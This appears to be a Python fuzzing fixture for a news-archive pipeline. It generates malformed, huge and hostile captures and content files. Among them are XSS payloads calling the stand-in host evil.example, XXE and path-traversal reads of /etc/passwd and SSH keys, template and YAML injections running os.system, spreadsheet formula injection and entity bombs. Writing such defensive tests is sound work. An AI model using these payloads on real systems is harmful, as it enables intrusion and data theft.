"""Hostile captures and content files, made on the spot: what strangers could send."""

from __future__ import annotations

import json
from collections.abc import Iterator

GOOD = """Ferry Council Votes for a Second Pier
By Orla Fenwick
March 12, 2031

WESTMERE – The harbour council voted 7 to 2 on Tuesday to build a second pier for the night ferry between Westmere and Saltholm.
“People who work nights have waited long enough,” Mayor Helen Marchetti said after the vote in the town hall.
The first crossing is planned for May 3. A single ticket will cost $4, and the council will pay about 35 percent of the running costs.
The council must sign a contract with an operator by April 15. Northern Sound Lines said it would make an offer before the summer.
"""

# Each would run `ran()` or ask evil.example for something, if it were ever taken for code, markup or an address.
PAYLOADS = (
    "<script>ran()</script>",
    "<script src=https://evil.example/a.js></script>",
    "<img src=x onerror=ran()>",
    "<img src=https://evil.example/pixel.gif>",
    "<svg onload=ran()><script>ran()</script></svg>",
    "<svg><animate onbegin=ran() attributeName=x dur=1s>",
    "<iframe srcdoc='<script>parent.ran()</script>'></iframe>",
    "<iframe src=https://evil.example/></iframe>",
    "<object data=https://evil.example/x.swf></object>",
    "<embed src=https://evil.example/x>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import url(https://evil.example/x.css);*{background:url(https://evil.example/b)}</style>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<form action=https://evil.example/><input autofocus onfocus=ran()><button>go</button></form>",
    "<details open ontoggle=ran()>x</details>",
    "<video><source onerror=ran() src=x></video>",
    "<math><mtext><table><mglyph><style><img src=x onerror=ran()></style></mglyph></table></mtext></math>",
    "<a href=javascript:ran()>press</a>",
    "<a href='java\tscript:ran()'>press</a>",
    "<a href=data:text/html,<script>ran()</script>>press</a>",
    "\"><script>ran()</script>",
    "'><img src=x onerror=ran()>",
    "\" onmouseover=ran() autofocus onfocus=ran() x=\"",
    "</script><script>ran()</script>",
    "</title><script>ran()</script>",
    "</style><script>ran()</script>",
    "</textarea></noscript></template><script>ran()</script>",
    "<!--<script>ran()</script>",
    "--><script>ran()</script>",
    "<!--<script>--><script>ran()</script>",
    "]]><script>ran()</script><![CDATA[",
    "<![CDATA[<script>ran()</script>]]>",
    "<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>",
    "&lt;script&gt;ran()&lt;/script&gt;",
    "&#60;script&#62;ran()&#60;/script&#62;",
    "\\u003cscript\\u003eran()\\u003c/script\\u003e",
    "{{ 7*7 }}{{ config }}{{ ''.__class__.__mro__ }}",
    "{% include '/etc/passwd' %}{% raw %}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "${7*7}#{7*7}<%= 7*7 %>",
    "[x](javascript:ran())",
    "[x](data:text/html;base64,PHNjcmlwdD5yYW4oKTwvc2NyaXB0Pg==)",
    "[x](  javascript&colon;ran() 'y')",
    "![x](https://evil.example/pixel.gif)",
    "![x](//evil.example/pixel.gif)",
    "![x](\\\\evil.example/pixel.gif)",
    "![x](\"onerror=ran())",
    "<javascript:ran()>",
    "<https://evil.example/\"onmouseover=\"ran()>",
    "[x]: javascript:ran()\n[x]",
    "[[Helen Marchetti|<img src=x onerror=ran()>]]",
    "[[<script>ran()</script>]]",
    "[[\" onmouseover=\"ran()|x]]",
    "[[javascript:ran()|x]]",
    "[[../../../etc/passwd]]",
    "\ue0000\ue001\ue0001\ue001",
    "\u202egnirts desrever\u202c\u2066x\u2069\u200b\ufeff",
    "a\u2028ran()\u2029b",
    "\u0019\u0007\u001b[31mred\u001b]0;title\u0007",
    "\ud7ff\ufffe\uffff\ufdd0",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd",
    "%00%0d%0aSet-Cookie:%20a=b",
    "\r\nBEGIN:VEVENT\r\nSUMMARY:injected\r\nEND:VEVENT",
    "9" * 400,
    "1e99999",
    "аррlе.com Ρаypal",
    "../../../etc/passwd",
    "..\\..\\windows\\system32",
    "CON", "nul.html", ".htaccess", "index", "-rf /", "~root", "a" * 3000,
    "👩‍👩‍👧‍👦" * 40,
    "Z̸͚͝ą̷̛l̵͕͠g̶͖̈́o̴͙͝" + "\u0301" * 500,
    "---\ntitle: other\n---\nx",
    "!!python/object/apply:os.system [id]",
    "&a [*a]",
)
TEXT_FIELDS = ("title", "outlet", "via", "dateline", "language", "translated_from", "published_why")
LIST_FIELDS = ("relays", "authors", "contributors", "places", "topics")
CSP_TRICKS = ("'; script-src *; x '", "sha256-AAAA' 'unsafe-inline")


def quoted(text: str) -> str:
    """A YAML text in double quotes: what would break out of JSON is escaped."""
    return json.dumps(text, ensure_ascii=False)


def allowed(text: str) -> str:
    """Without what a content file is refused for (control characters): to get further into the program."""
    return "".join(c for c in text if c in "\n\t" or (ord(c) >= 32 and not 127 <= ord(c) < 160 and c not in "\ufffe\uffff"))


def poisoned_article(payload: str, n: int) -> str:
    """One payload in every field that takes words."""
    p = quoted(allowed(payload).replace("\n", " ")) if payload else '""'
    lines = [f"id: poison-{n}", f"published: 2031-03-{n % 28 + 1:02}", 'url: "https://news.example/?q=%22%3E%3Cscript%3Eran()%3C/script%3E&x=\'"',
             "capture: [seeds/a<b>.txt]", *(f"{key}: {p}" for key in TEXT_FIELDS), *(f"{key}: [{p}]" for key in LIST_FIELDS),
             f"summary:\n- {{text: {p}, line: 3}}\n- {{text: \"It stands beside {n} others.\", line: 4}}",
             f"actors:\n- {{name: {p}, type: person, aliases: [{p}], role: {p}, mentions: 3, line: 3}}\n- {{name: Helen Marchetti, type: person, role: {p}, mentions: 1, line: 5}}",
             f"events:\n- {{date: 2031-03-04, precision: day, kind: past, what: {p}, actors: [{p}], src: {p}, line: 3}}\n"
             f"- {{date: 2031-05, precision: month, kind: deadline, what: {p}, part: early, line: 3}}",
             f"quotes:\n- {{speaker: {p}, text: {p}, line: 5}}\n- {{text: {p}, line: 6}}",
             f"figures:\n- {{value: {10 ** (n % 30)}, unit: {p}, of: {p}, src: {p}, line: 7}}"]
    return "---\n" + "\n".join(lines) + "\n---\n" + allowed(payload) + "\n\nWords of [[Helen Marchetti]].\n"


def poisoned_actor(payload: str, n: int) -> str:
    p = quoted(allowed(payload).replace("\n", " ")) if payload else '""'
    return (f"---\nname: {quoted(f'Actor {n} ' + allowed(payload).replace(chr(10), ' '))}\ntype: person\naliases: [{p}]\nrole: {p}\naffiliation: {p}\ncountry: {p}\n"
            f"same_as: [{p}, 'javascript:ran()', 'https://wiki.example/\"onmouseover=\"ran()']\nmerged:\n- {{name: {p}, where: {p}, why: {p}}}\n---\n{allowed(payload)}\n")


def poisoned_note(payload: str, n: int) -> str:
    p = quoted(allowed(payload).replace("\n", " ")) if payload else '""'
    return f"---\ntitle: {p}\nslug: note-{n}\nmenu: true\n---\n{allowed(payload)}\n\n## {allowed(payload)}\n"


def poisoned_text(payload: str, n: int) -> bytes:
    """A text capture with the payload in headline, byline, prose, quote and figure."""
    return (f"{payload} at the Pier of Berth {n}\nBy Orla {payload}\nMarch {n % 28 + 1}, 2031\n\n{payload.upper()} – Mayor Helen {payload} Marchetti opened berth {n} on Tuesday, {payload}.\n"
            f"“The pier {payload} will hold for {n} winters,” {payload} Marchetti said after the vote in the town hall.\n"
            f"A single ticket will cost ${n} {payload}, and the council will pay about {n % 90 + 5} percent of the running costs {payload}.\n"
            "The council must sign a contract with an operator by April 15. Northern Sound Lines said it would make an offer before the summer.\n").encode("utf-8", "surrogatepass")


def poisoned_page(payload: str, n: int) -> bytes:
    """The same as a web page, also in its metadata."""
    p = payload
    return (f"<!doctype html><html><head><title>{p} Berth {n} Opens – The {p} Courier</title><meta property='og:title' content=\"{p} Berth {n}\">"
            f"<meta property='og:site_name' content='{p}'><meta name=author content='{p}'><link rel=canonical href='javascript:ran()'>"
            f"<script type='application/ld+json'>{{\"@type\":\"NewsArticle\",\"headline\":{json.dumps(p)},\"author\":{json.dumps(p)},\"datePublished\":{json.dumps(p)},"
            f"\"url\":\"javascript:ran()\"}}</script></head><body><nav>{p}</nav><article><h1>{p} Berth {n} Opens</h1><p>By {p}</p><p>{p} Mayor Helen Marchetti opened berth {n} of the "
            f"ferry harbour on Tuesday, two years after the last boat left the town.</p><p>“The pier {p} will hold for {n} winters,” Marchetti said after the vote.</p><ul><li>{p}</li></ul>"
            f"<blockquote>{p}</blockquote><table><tr><td>{p}</td></tr></table><p>A single ticket will cost ${n}, and the council will pay 35 percent of the running costs.</p></article>"
            "</body></html>").encode("utf-8", "surrogatepass")


PROSE = GOOD.encode()
PAGE = b"<html><body><article><h1>Second Pier for the Ferry</h1>" + b"".join(b"<p>" + line + b"</p>" for line in PROSE.split(b"\n")[4:8]) + b"</article></body></html>"
JAPANESE = "港の夜間フェリーが再開\n2031年3月12日\n\n港湾評議会は火曜日、夜間フェリーの再開を決めた。市長は「夜に働く人々は十分に待った」と述べた。最初の便は五月三日に出る予定だ。運賃は四百円になる見込みである。\n"
CHINESE = "港口夜间渡轮恢复运行\n2031年3月12日\n\n港务委员会星期二决定恢复夜间渡轮。市长表示：“夜班工人已经等得够久了。”第一班船计划于五月三日出发。票价为四元，市政府将支付百分之三十五的费用。\n"
GERMAN = "Nachtfähre fährt wieder über den Sund\n12. März 2031\n\nDer Hafenausschuss beschloss am Dienstag, die Nachtfähre zwischen Westmere und Saltholm wieder fahren zu lassen. „Die Leute haben lange genug gewartet“, sagte Bürgermeisterin Helen Müller. Die erste Überfahrt ist für den 3. Mai geplant.\n"


def byte_captures() -> Iterator[tuple[str, bytes]]:
    """Name and bytes of captures that are broken, huge, mislabelled or in any encoding."""
    yield "empty.txt", b""
    yield "white.txt", b" \n\t\r\n" * 50
    yield "bom-only.txt", b"\xef\xbb\xbf"
    yield "nuls.txt", b"\0" * 5000
    yield "prose-with-nuls.txt", PROSE.replace(b" ", b" \0", 40)
    yield "controls.txt", PROSE.replace(b" ", b" \x19\x07\x1b[31m", 30)
    yield "random.txt", bytes((i * 7919 + i // 251) % 256 for i in range(9000))
    for name in ("utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-32-le", "utf-32-be", "utf-8-sig", "cp1252", "utf-7", "mac-roman"):
        yield f"good-{name}.txt", GOOD.encode(name, "replace")
    for name in ("shift_jis", "euc_jp", "iso2022_jp", "utf-16", "cp932"):
        yield f"japanese-{name}.txt", JAPANESE.encode(name, "replace")
    for name in ("gb18030", "gbk", "gb2312", "hz", "utf-16-be"):
        yield f"chinese-{name}.txt", CHINESE.encode(name, "replace")
    for name in ("cp1252", "iso8859-15", "cp850", "utf-16-le"):
        yield f"german-{name}.txt", GERMAN.encode(name, "replace")
    yield "mixed.txt", PROSE + GERMAN.encode("cp1252", "replace") + JAPANESE.encode("shift_jis") + PROSE.decode().encode("utf-16-le")
    yield "cut-utf16.txt", GOOD.encode("utf-16")[:-1]
    yield "lying-charset.html", b"<meta charset=utf-16>" + PAGE
    yield "unknown-charset.html", b"<meta charset=x-user-defined>" + PAGE
    yield "rot13-charset.html", b"<meta charset=rot13>" + PAGE + b"\xff\xfe\xfd"
    yield "zip-charset.html", b"<meta charset=zlib>" + PAGE + b"\xff\xfe\xfd"
    yield "surrogates.txt", PROSE + b"\xed\xa0\x80\xed\xbf\xbf"
    yield "zip.txt", b"PK\x03\x04" + b"\x14\0\0\0" * 500
    yield "docx.html", b"PK\x03\x04" + b"word/document.xml" * 100
    yield "pdf.txt", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<</Type/Catalog>>\nendobj\n" * 20
    yield "png.html", b"\x89PNG\r\n\x1a\n" + b"\0\1\2\3" * 400
    yield "gzip.html", b"\x1f\x8b\x08" + bytes(range(256)) * 8
    yield "page.mhtml", (b"From: <Saved by Blink>\r\nSnapshot-Content-Location: javascript:ran()\r\nSubject: Second Pier\r\nMIME-Version: 1.0\r\n"
                         b"Content-Type: multipart/related; boundary=\"b\"\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n" + PAGE + b"\r\n--b--\r\n")
    yield "mail.eml", (b"From: <script>ran()</script>\r\nSubject: =?utf-8?q?Second_Pier_=3Cscript=3Eran()=3C/script=3E?=\r\nDate: nonsense\r\nMIME-Version: 1.0\r\n"
                       b"Content-Type: text/plain; charset=nope\r\n\r\n" + PROSE)
    yield "nested.eml", b"MIME-Version: 1.0\r\n" + b"".join(b"Content-Type: multipart/mixed; boundary=b%d\r\n\r\n--b%d\r\n" % (n, n) for n in range(300)) + PROSE
    yield "broken.eml", b"MIME-Version: 1.0\r\nContent-Type: multipart/mixed\r\nContent-Transfer-Encoding: base64\r\n\r\n!!!!"
    yield "headers.txt", b"A: b\n" * 4000 + PROSE
    yield "truncated.html", PAGE[:-120] + b"<p class='unfinish"
    yield "truncated-tag.html", b"<html><body><p>" + PROSE + b"<a href='"
    yield "truncated-comment.html", PAGE[:300] + b"<!--" + PAGE
    yield "truncated-script.html", PAGE[:300] + b"<script>" + PAGE
    yield "deep.html", b"<html><body>" + b"<div>" * 60_000 + PROSE
    yield "deep-inline.html", b"<html><body><p>" + b"<b><i><a href=x>" * 10_000 + PROSE
    yield "deep-table.html", b"<html><body>" + b"<table><tr><td>" * 4_000 + PROSE
    yield "deep-list.html", b"<html><body>" + b"<ul><li>" * 8_000 + PROSE
    yield "deep-quote.html", b"<html><body><article><h1>Deep</h1>" + b"<blockquote>" * 6_000 + PROSE
    yield "attributes.html", b"<html><body><p " + b" ".join(b"a%d=b" % n for n in range(40_000)) + b">" + PROSE
    yield "entities.html", PAGE.replace(b"the", b"&amp;" * 20_000, 1)
    yield "no-tags.html", PROSE
    yield "many-cells.html", b"<html><body><article><h1>Wide Table</h1><table>" + b"<tr>" + b"<td>12 percent</td>" * 200 + b"</tr>" * 150 + b"</table><p>" + PROSE + b"</p></article></body></html>"
    yield "bomb.xml", (b"<?xml version='1.0'?><!DOCTYPE l [<!ENTITY a 'aaaaaaaaaa'>" + b"".join(b"<!ENTITY a%d '%s'>" % (n, b"&a%s;" % (str(n - 1).encode() if n else b"") * 10)
                       for n in range(9)) + b"]><html><body><p>&a8;</p></body></html>")
    yield "xxe.xhtml", b"<?xml version='1.0'?><!DOCTYPE html [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><html><body><h1>&x;</h1><p>" + PROSE + b"&x;</p></body></html>"
    yield "yaml.txt", b"---\ntitle: !!python/object/apply:os.system [id]\nslug: ../../x\n---\n" + PROSE
    yield "fences.txt", b"---\n" * 200 + PROSE + b"---\n...\n%YAML 1.2\n"
    yield "template.txt", PROSE.replace(b"council", b"{{ council }}{% raw %}")
    yield "bidi.txt", PROSE.replace(b"Mayor", "\u202eroyaM\u202c".encode())
    yield "numbers.txt", PROSE.replace(b"35", b"9" * 5000).replace(b"$4", b"$" + b"9" * 400 + b" trillion").replace(b"7 to 2", b"1e999999 to " + b"1" * 300)
    yield "dates.txt", PROSE.replace(b"March 12, 2031", b"March 99, 99999").replace(b"May 3", b"February 31").replace(b"April 15", b"0000-00-00")
    yield "cr-only.txt", PROSE.replace(b"\n", b"\r")
    yield "vertical.txt", PROSE.replace(b"\n", b"\x0b\x0c\x85\xe2\x80\xa8")
    yield "one-word-a-line.txt", PROSE.replace(b" ", b"\n")


def slow_captures() -> Iterator[tuple[str, bytes]]:
    """What a regular expression that backtracks, or a quadratic loop, would never come back from."""
    yield "one-line.txt", PROSE + b"word " * 1_000_000
    yield "no-spaces.txt", PROSE + b"x" * 2_000_000
    yield "capitals.txt", PROSE + b"Ada Bell " * 100_000
    yield "quotes.txt", PROSE + "“".encode() * 25_000 + b'"a' * 25_000
    yield "brackets.txt", PROSE + b"[" * 40_000 + b"(" * 40_000 + b"[[" * 20_000
    yield "spaces.txt", PROSE + b" " * 500_000 + b"\n" + b"\t \t" * 100_000 + b"x"
    yield "digits.txt", PROSE + b"1" * 300_000 + b" 1," * 60_000 + b"1.2.3." * 40_000
    yield "dots.txt", PROSE + b". " * 200_000 + b"A." * 100_000
    yield "dashes.txt", PROSE + b"- " * 150_000 + b"--" * 100_000
    yield "commas.txt", PROSE + b"Bell, " * 80_000
    yield "apostrophes.txt", PROSE + "x’s ".encode() * 40_000
    yield "lines.txt", PROSE + b"a\n" * 300_000
    yield "headings.txt", PROSE + b"# Heading Here\n" * 30_000
    yield "bullets.txt", PROSE + "• Mayor Ada Bell\n".encode() * 12_000
    yield "dates.txt", PROSE + b"on March 12, 2031 " * 4_000
    yield "percent.txt", PROSE + b"about 35 percent of 12 million dollars " * 2_000
    yield "said.txt", PROSE + "“We wait,” Marchetti said. ".encode() * 4_000
    yield "links.txt", PROSE + b"https://a.example/b?c=d&" * 30_000
    yield "mail-head.txt", b"Subject: x\n" + b" folded\n" * 100_000
    yield "comment.html", b"<html><!--" + b"<!-- -" * 50_000 + PROSE
    yield "comments.html", b"<!-- a -->" * 20_000 + PAGE
    yield "open-tags.html", PAGE + b"<" * 100_000 + b"<a" * 50_000
    yield "ld-json.html", b"<html><head><script type=application/ld+json>" + b"[" * 100_000 + b"</script></head>" + PAGE
    yield "meta.html", b"<html><head>" + b"<meta name=author content=x>" * 20_000 + b"</head>" + PAGE
    yield "paragraphs.html", b"<html><body><article><h1>Long</h1>" + b"<p>The pier will hold, the mayor said on Tuesday in the town hall.</p>" * 20_000
    yield "rows.html", b"<html><body><article><h1>Rows</h1><table>" + b"<tr><td>Pier</td><td>12 percent</td></tr>" * 4_000 + b"</table><p>" + PROSE


BAD_FRONT = {
    "tag": "title: !!python/object/apply:os.system [id]", "tag-local": "title: !include /etc/passwd", "alias": "a: &a [x]\ntitle: *a",
    "bomb": "a: &a [x,x]\nb: &b [*a,*a]\nc: &c [*b,*b]\ntitle: *c", "loop": "a: &a [*a]", "merge": "<<: {title: x}\nother: 1", "twice": "title: a\ntitle: b", "deep": "title: " + "[" * 500,
    "deeper": "title: " + "[" * 100_000, "deep-map": "title: " + "{a: " * 400, "open": 'title: "never ends', "tab": "title:\tx\n\tb: c", "colon": "title: a: b: c", "percent": "%YAML 9.9\ntitle: x",
    "fence": "title: x\n---\n---\ntitle: y", "dots": "title: x\n...\ntitle: y", "doc": "title: x\n--- !!x\ntitle: y", "list": "- a\n- b", "scalar": "just words", "null": "title: ~\nslug: ~", "binary": "title: !!binary AAAA",
    "key": "? [a, b]\n: x", "bool": "title: yes\nhidden: maybe", "int": "title: x\nwords: 99999999999999999999999", "hex": "title: x\nwords: 0x7fffffffffffffff", "float": "title: x\nfigures: [{value: .inf, unit: x, of: y}]",
    "huge": "title: x\nfigures: [{value: 1e308, unit: x, of: y}, {value: 999999999999999999999999999999, unit: x, of: y}]", "expo": "title: x\nfigures: [{value: 1e999999999, unit: x, of: y}]",
    "day": "title: x\npublished: 99999-99-99", "day0": "title: x\npublished: 0000-01-01", "day9": "title: x\npublished: 9999-12-31", "day1": "title: x\npublished: 0001-01-01", "range": "title: x\npublished: 2031-03-05/2031-03-01", "event": "title: x\nevents: [{date: 9999-99, what: y}]",
    "event9": "title: x\nevents: [{date: 9999-12-31, precision: day, kind: planned, what: y}, {date: 0001, what: z}]", "id": "title: x\nid: ../../x", "id-long": "title: x\nid: " + "a" * 500, "url": "title: x\nurl: javascript:ran()", "url2": "title: x\nurl: https://[::1",
    "url3": "title: x\nurl: 'https://a.example/\"><script>'", "slug": "title: x\nslug: ../../../etc/passwd", "slug2": "title: x\nslug: 'a/b'", "slug3": "title: x\nslug: 'a\\b'", "slug4": "title: x\nslug: index",
    "slug5": "title: x\nslug: '%2e%2e%2f'", "slug6": "title: x\nslug: ........", "slug-homograph": "title: x\nslug: аррlе", "slug-long": "title: x\nslug: " + "a" * 4000, "slug-device": "title: x\nslug: CON", "slug-null": 'title: x\nslug: "a\\0b"',
    "redirect": "title: x\nredirect_from: [../../index.html]", "redirect2": "title: x\nredirect_from: [index, CNAME, ../x]", "redirect-abs": "title: x\nredirect_from: [/etc/passwd]", "capture": "title: x\ncapture: [../../../etc/passwd]",
    "capture-abs": "title: x\ncapture: [/etc/passwd]", "capture-home": "title: x\ncapture: [~/.ssh/id_rsa]", "capture-null": 'title: x\ncapture: ["seeds/a\\0b"]', "capture-many": "title: x\ncapture: [" + ", ".join(f"seeds/{n}" for n in range(3000)) + "]",
    "kinds": "title: {a: b}\nsummary: 5\nactors: {x: y}", "numbers-as-names": "title: 5\nactors: [1, 2, NO, ~]", "nested-actors": "title: x\nactors: [{name: {a: b}}]", "empty-actor": "title: x\nactors: [{}]", "type": "title: x\nactors: [{name: A, type: '<script>'}]",
    "kind": "title: x\nevents: [{date: 2031-03-01, kind: '<script>', precision: '\"><b>', part: '<i>', what: z}]", "from": "title: x\ntitle_from: '<b>'\npublished_from: '<b>'\nconfidence: '<b>'", "seal": "title: x\nseal: {title: [a], file: {x: y}}",
    "seal2": "title: x\nseal: !!x y", "seal3": "title: x\nseal: " + "a" * 10_000, "unknown": "title: x\n__class__: y\nconstructor: z\n__proto__: {a: b}", "escape": 'title: "\\x00\\x19\\uFFFE\\U0001F600\\e"', "surrogate": 'title: "\\uD800"',
    "emptykey": "'': x\ntitle: y", "utf": "title: \u2028\u2029\x85 x", "bom": "title: \ufeffx", "long-key": "a" * 3000 + ": x", "many-keys": "title: x\n" + "\n".join(f"k{n}: v" for n in range(5000)),
    "many-actors": "title: x\nactors: [" + ", ".join(f"Ada Bell {n}" for n in range(2000)) + "]", "same-actor": "title: x\nactors: [Ada, Ada, ada, ADA, Ada]", "draft": "title: x\ndraft: '<b>'", "language": "title: x\nlanguage: '../../x'",
}
BODIES = {
    "brackets": "[" * 8000, "links": "[a][" * 8000, "links2": "[a](" * 8000, "images": "![a](" * 8000, "stars": "*" * 20_000, "stars2": "*a **a " * 5000, "underscores": "_a__" * 8000, "ticks": "`" * 100_000, "ticks2": "` `` " * 10_000,
    "lists": "\n".join(" " * (2 * n) + "- x" for n in range(400)), "lists4": "\n".join(" " * (4 * n) + "- x" for n in range(400)), "tablists": "\n".join("\t" * n + "* x" for n in range(400)), "quotes": "\n".join(">" * n + " x" for n in range(400)),
    "quotes2": "> " * 5000 + "x", "markers": "- " * 5000 + "x", "numbers": "1. " * 5000 + "x", "mixed": "> - 1. " * 800 + "x", "angles": "<" * 50_000, "angles2": "<a " * 10_000, "comments": "<!--" * 10_000, "amps": "&" * 50_000, "amps2": "&#" * 20_000,
    "divs": "<div>" * 20_000, "tags": "<b><i>" * 10_000, "open": "<b " + "a=b " * 10_000, "headings": "#" * 50_000, "heads": "# x\n" * 10_000, "setext": "x\n===\n" * 5000, "rules": "* " * 30_000, "dashes": "-\n" * 20_000, "table": "|a" * 5000 + "|\n" + "|-" * 5000 + "|\n" + ("|x" * 50 + "|\n") * 100,
    "table2": "|a|b|\n|-|-|\n" + "|x|y|\n" * 20_000, "deflist": "x\n: y\n" * 8000, "deflist2": "x\n" + ":   " * 3000 + "y", "refs": "\n".join(f"[r{n}]: https://a.example/{n}" for n in range(4000)), "refs2": "[a]: " * 8000, "names": "[[Ada]]" * 20_000, "names2": "[[" * 20_000 + "]]" * 20_000, "names3": "[[a|" * 10_000,
    "pua": "\ue000" * 5000 + "0" + "\ue001" * 5000, "pua2": "".join(f"\ue000{n}\ue001" for n in range(3000)), "pua3": "\ue000999999999\ue001\ue0000\ue001[[Ada]]", "spaces": " " * 100_000 + "x", "spaces2": "x" + " " * 100_000 + "\n" + "y", "newlines": "\n" * 100_000 + "x",
    "backslashes": "\\" * 50_000, "backslashes2": "\\[" * 20_000, "parens": "[a](" + "(" * 20_000, "autolinks": "<https://a.example/" * 5000, "mails": "<a@b.example" * 5000, "smart": "'\"" * 30_000, "dots": "..." * 30_000, "hyphens": "--" * 40_000, "emph": "**" * 3000 + "a" + "**" * 3000,
    "stx": "\u0002klzzwxh:0001\u0003", "wzx": "klzzwxh:0000 wzxhzdk:0 " * 200, "long": "word " * 60_000, "longest": "x" * 500_000, "code": "    code\n" * 20_000, "fenced": "```\n" * 10_000, "html": "<table><tr><td>" * 3000, "svg": "<svg><path d='" + "M0 0" * 10_000, "mathml": "<math>" * 5000,
    "abbr": "*[a]: b\n" * 5000 + "a " * 5000, "foot": "[^1]" * 8000, "zalgo": "a" + "\u0301" * 50_000, "rtl": "\u202e" * 20_000 + "x", "indents": "\n\n".join("    " * n + "x" for n in range(120)), "li-quotes": "\n".join("- " * (n % 40) + "> x" for n in range(2000)),
}


def content_cases() -> Iterator[tuple[str, str]]:
    """Name and text of content/articles files that try the reader; each is valid or must be refused with its line."""
    for name, front in BAD_FRONT.items():
        yield f"front-{name}", f"---\n{front}\n---\nA body.\n"
    for name, body in BODIES.items():
        yield f"body-{name}", f"---\ntitle: Body {name}\n---\n{body}\n"
    yield "raw-empty", ""
    yield "raw-fence", "---"
    yield "raw-fences", "---\n---"
    yield "raw-none", "# only a body"
    yield "raw-control", "---\ntitle: a\x19b\n---\n"
    yield "raw-nul", "---\ntitle: a\0b\n---\n"
    yield "raw-escape", "---\ntitle: \x1b[31mred\n---\n"
    yield "raw-never", "---\ntitle: x\n"
    yield "raw-crlf", "---\r\ntitle: x\r\n---\r\nbody\r\n"
    yield "raw-cr", "---\rtitle: x\r---\rbody\r"
    yield "raw-bom", "\ufeff---\ntitle: x\n---\nbody\n"
    yield "raw-big", "---\ntitle: x\n---\n" + "word " * 600_000
    yield "raw-front", "---\ntitle: " + "x" * 600_000 + "\n---\n"
    yield "raw-long-title", "---\ntitle: " + "x y " * 50_000 + "\n---\n"
